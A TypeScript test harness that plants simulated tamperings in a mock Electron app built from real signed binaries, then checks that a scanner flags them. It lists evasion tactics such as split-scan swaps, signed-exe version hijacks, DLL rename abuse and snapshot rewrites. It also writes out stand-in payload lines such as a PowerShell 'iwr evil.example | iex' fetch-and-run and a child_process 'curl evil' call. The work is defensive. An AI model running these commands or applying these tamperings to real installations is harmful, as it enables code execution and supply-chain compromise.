// Attacks by someone who has read the README's rules, built from real signed binaries (the real corpus of
// test/corpus/REAL.md and the pinned pairs of detection-pairs.json), each scanned with the CLI: the baseline, then the
// attack (sometimes in two steps). An attack "holds" when the scan that carries it raises at least its expected level.
import { copyFileSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { realCorpusPath } from '../lib/real-corpus.ts';
import { cliScanner, loud, type ScanJson } from './detection-scan.ts';

export interface AttackResult {
  name: string;
  from: string;
  expect: string;
  got: string;
  held: boolean;
}

const ORDER = ['info', 'low', 'medium', 'high', 'critical'];
const rank = (s: string): number => ORDER.indexOf(s);
const top = (s: ScanJson): string => s.findings.reduce((m, f) => (rank(f.severity) > rank(m) ? f.severity : m), 'info');
const got = (s: ScanJson): string => (loud(s).length ? loud(s).slice(0, 4).map((f) => `${f.rule} ${f.severity}${f.path ? ` \`${f.path}\`` : ''}`).join('; ') + (loud(s).length > 4 ? `; … (${loud(s).length})` : '') : 'nothing above info');

type Get = (pkg: string, version: string) => string;

function put(root: string, rel: string, bytes: Uint8Array | string): void {
  mkdirSync(dirname(join(root, rel)), { recursive: true });
  writeFileSync(join(root, rel), bytes);
}

/** "contoso" version 2.0.5: a signed main executable (Microsoft's vsce-sign.exe 2.0.5), signed and unsigned modules, Electron steering files. */
function contoso(root: string, get: Get, version: '2.0.5' | '2.0.6', prefix = ''): void {
  const at = (rel: string): string => `${prefix}${rel}`;
  put(root, at('contoso.exe'), readFileSync(join(get('@vscode/vsce-sign-win32-x64', version), 'bin', 'vsce-sign.exe')));
  put(root, at('package.json'), JSON.stringify({ name: 'contoso', version, main: 'main.js' }));
  put(root, at('resources/app.asar'), `console.log("contoso ${version}")`);
  put(root, at('resources/app-update.yml'), `provider: generic\nurl: https://updates.contoso.example/\nversion: ${version}\n`);
  put(root, at('msalruntime.dll'), readFileSync(realCorpusPath('msalruntime')));
  put(root, at('d3dcompiler_47.dll'), readFileSync(realCorpusPath('vcruntime140')));
  put(root, at('pty.node'), readFileSync(realCorpusPath('pty-node')));
  put(root, at('prebuilds/win32-x64/pty.node'), readFileSync(realCorpusPath('pty-node')));
  put(root, at('v8_context_snapshot.bin'), Buffer.alloc(4096, 7));
  put(root, at('python/Lib/site.py'), 'import os\n');
  put(root, at('resources/app/main.js'), "require('./lib/helper')\n");
  put(root, at('resources/app/lib/helper.js'), 'module.exports = 1\n');
}

interface Attack {
  name: string;
  from: string;
  expect: 'info' | 'low' | 'medium' | 'high' | 'critical';
  /** Steps after the baseline; the result of the last is judged, the others must each reach `expect` too when `each`. */
  steps: ((root: string, get: Get) => void)[];
  each?: boolean;
  squirrel?: boolean;
  /** Without the signed main executable and app-update.yml: the app's version comes from package.json alone. */
  unsignedOnly?: boolean;
}

const trojan = (): Buffer => readFileSync(realCorpusPath('clipboard')); // an unsigned PE that is not pty.node

const ATTACKS: Attack[] = [
  {
    name: 'split over two scans: package.json and app-update.yml bumped to 2.0.6 first (no module touched), then the unsigned pty.node swapped',
    from: 'vsce-sign 2.0.5 (Microsoft) as contoso.exe; clipboardy exe as the trojan',
    expect: 'high',
    each: true,
    steps: [
      (r) => {
        put(r, 'package.json', JSON.stringify({ name: 'contoso', version: '2.0.6', main: 'main.js' }));
        put(r, 'resources/app-update.yml', 'provider: generic\nurl: https://updates.contoso.example/\nversion: 2.0.6\n');
      },
      (r) => put(r, 'pty.node', trojan()),
    ],
  },
  {
    name: 'version-source hijack: a genuine newer Microsoft-signed exe (vsce-sign 2.0.6) dropped at the top as contoso-helper.exe, with the unsigned pty.node swapped in the same scan',
    from: 'vsce-sign 2.0.5 / 2.0.6; clipboardy exe',
    expect: 'high',
    steps: [
      (r, get) => {
        copyFileSync(join(get('@vscode/vsce-sign-win32-x64', '2.0.6'), 'bin', 'vsce-sign.exe'), join(r, 'contoso-helper.exe'));
        put(r, 'pty.node', trojan());
      },
    ],
  },
  {
    name: 'version-source hijack, second form: the main executable removed and a genuine newer Microsoft-signed exe dropped as contoso2.exe, with pty.node swapped',
    from: 'vsce-sign 2.0.5 / 2.0.6; clipboardy exe',
    expect: 'high',
    steps: [
      (r, get) => {
        rmSync(join(r, 'contoso.exe'));
        copyFileSync(join(get('@vscode/vsce-sign-win32-x64', '2.0.6'), 'bin', 'vsce-sign.exe'), join(r, 'contoso2.exe'));
        put(r, 'pty.node', trojan());
      },
    ],
  },
  {
    name: 'a rewritten app.asar and a new unsigned module timed with a real update (contoso.exe 2.0.5 → 2.0.6) — the documented limit: listed, not raised',
    from: 'vsce-sign 2.0.5 → 2.0.6; clipboardy exe',
    expect: 'info',
    steps: [
      (r, get) => {
        contoso(r, get, '2.0.6');
        put(r, 'resources/app.asar', 'require("child_process").exec("curl evil")');
        put(r, 'pty.node', trojan());
      },
    ],
  },
  {
    name: 'a new .ps1 launch script timed with a real update',
    from: 'vsce-sign 2.0.5 → 2.0.6',
    expect: 'low',
    steps: [
      (r, get) => {
        contoso(r, get, '2.0.6');
        put(r, 'resources/postinstall.ps1', 'iwr https://evil.example/x.ps1 | iex\n');
      },
    ],
  },
  {
    name: 'rename pairing abused: msalruntime.dll removed, another genuine Microsoft-signed DLL (conpty.dll) added as msalruntime_x64.dll, during a real update of contoso.exe',
    from: 'msalruntime.dll, conpty.dll (both Microsoft); vsce-sign 2.0.6',
    expect: 'high',
    steps: [
      (r, get) => {
        contoso(r, get, '2.0.6');
        rmSync(join(r, 'msalruntime.dll'));
        copyFileSync(realCorpusPath('conpty'), join(r, 'msalruntime_x64.dll'));
      },
    ],
  },
  {
    name: 'split over two scans in an app whose only version is package.json: the version bumped alone first (an "update" with nothing in it), then the unsigned pty.node swapped',
    from: 'contoso without its signed main executable and app-update.yml; clipboardy exe',
    expect: 'high',
    unsignedOnly: true,
    steps: [(r) => put(r, 'package.json', JSON.stringify({ name: 'contoso', version: '2.0.6', main: 'main.js' })), (r) => put(r, 'pty.node', trojan())],
  },
  {
    name: 'two genuine Microsoft-signed DLLs of another program (conpty.dll) added as msalruntime.dll in two new folders during a real update, to be grouped as "a new architecture" of the app\'s Microsoft-signed msalruntime.dll',
    from: 'conpty.dll, msalruntime.dll (Microsoft); vsce-sign 2.0.6',
    expect: 'medium',
    steps: [
      (r, get) => {
        contoso(r, get, '2.0.6');
        put(r, 'arm64/msalruntime.dll', readFileSync(realCorpusPath('conpty')));
        put(r, 'x86/msalruntime.dll', readFileSync(realCorpusPath('conpty')));
      },
    ],
  },
  {
    name: 'a PE payload in app.asar.unpacked under a data name (icon.png)',
    from: 'clipboardy exe',
    expect: 'high',
    steps: [(r) => put(r, 'resources/app.asar.unpacked/node_modules/x/icon.png', trojan())],
  },
  {
    name: 'a PE payload under a name that is neither data nor code (payload.bin), during a real update',
    from: 'clipboardy exe; vsce-sign 2.0.6',
    expect: 'high',
    steps: [
      (r, get) => {
        contoso(r, get, '2.0.6');
        put(r, 'resources/payload.bin', trojan());
      },
    ],
  },
  {
    name: 'two unsigned modules named like the app\'s unsigned pty.node at the top of a new Squirrel app-2.0.6/ folder (a real update), hoping to be grouped as "a new architecture folder"',
    from: 'real Squirrel.exe as Update.exe; vsce-sign 2.0.5 → 2.0.6; clipboardy exe',
    expect: 'high',
    squirrel: true,
    steps: [
      (r, get) => {
        contoso(r, get, '2.0.6', 'app-2.0.6/');
        put(r, 'app-2.0.6/pty_x64.node', trojan());
        put(r, 'app-2.0.6/pty-x86.node', trojan());
      },
    ],
  },
  {
    name: 'Electron V8 heap snapshot (v8_context_snapshot.bin) rewritten, version unchanged (the 2025 snapshot-backdoor of Signal/Slack/1Password, CVE-2025-55305)',
    from: 'contoso (Electron layout)',
    expect: 'high',
    steps: [(r) => put(r, 'v8_context_snapshot.bin', Buffer.alloc(4096, 9))],
  },
  {
    name: 'an unpacked Electron app (resources/app/): an extensionless `lib/helper` dropped beside `lib/helper.js` (Node loads it first for `require(\'./lib/helper\')`), version unchanged',
    from: 'contoso with resources/app/',
    expect: 'high',
    steps: [
      (r) => {
        put(r, 'resources/app/lib/helper', "require('child_process').exec('curl evil')\n");
      },
    ],
  },
  {
    name: 'bundled Python: sitecustomize.py dropped beside site.py (runs at interpreter start-up), version unchanged',
    from: 'contoso with a bundled python/',
    expect: 'high',
    steps: [(r) => put(r, 'python/Lib/sitecustomize.py', 'import subprocess\n')],
  },
];

async function runOne(a: Attack, get: Get): Promise<AttackResult> {
  const s = cliScanner();
  const root = join(s.dir, 'contoso');
  try {
    mkdirSync(root);
    if (a.squirrel) copyFileSync(realCorpusPath('squirrel'), join(root, 'Update.exe'));
    contoso(root, get, '2.0.5', a.squirrel ? 'app-2.0.5/' : '');
    if (a.unsignedOnly) for (const f of ['contoso.exe', 'resources/app-update.yml']) rmSync(join(root, f));
    const base = s.scan(root, 'contoso');
    if (rank(top(base)) > rank('info')) throw new Error(`${a.name}: baseline raised ${got(base)}`);
    const results: ScanJson[] = [];
    for (const step of a.steps) {
      step(root, get);
      results.push(s.scan(root, 'contoso'));
    }
    const judged = a.each ? results : results.slice(-1);
    // `info` and `low` expectations are the documented limits (a change timed with a real update): they hold when the
    // change is at least listed (UPDATE_EXPLAINED / NEW_SCRIPT) and never raised above what the README says.
    const held = a.expect === 'info' || a.expect === 'low' ? judged.every((r) => top(r) === a.expect && r.findings.length > 0) : judged.every((r) => rank(top(r)) >= rank(a.expect));
    return { name: a.name, from: a.from, expect: a.expect === 'info' || a.expect === 'low' ? `${a.expect} (documented limit)` : `${a.expect} or above${a.each ? ', at each step' : ''}`, got: results.map((r, i) => `${results.length > 1 ? `step ${i + 1}: ` : ''}${got(r)}`).join(' / '), held };
  } finally {
    rmSync(s.dir, { recursive: true, force: true });
  }
}

export async function runAttacks(get: Get): Promise<AttackResult[]> {
  const out: AttackResult[] = [];
  for (const a of ATTACKS) out.push(await runOne(a, get));
  return out;
}
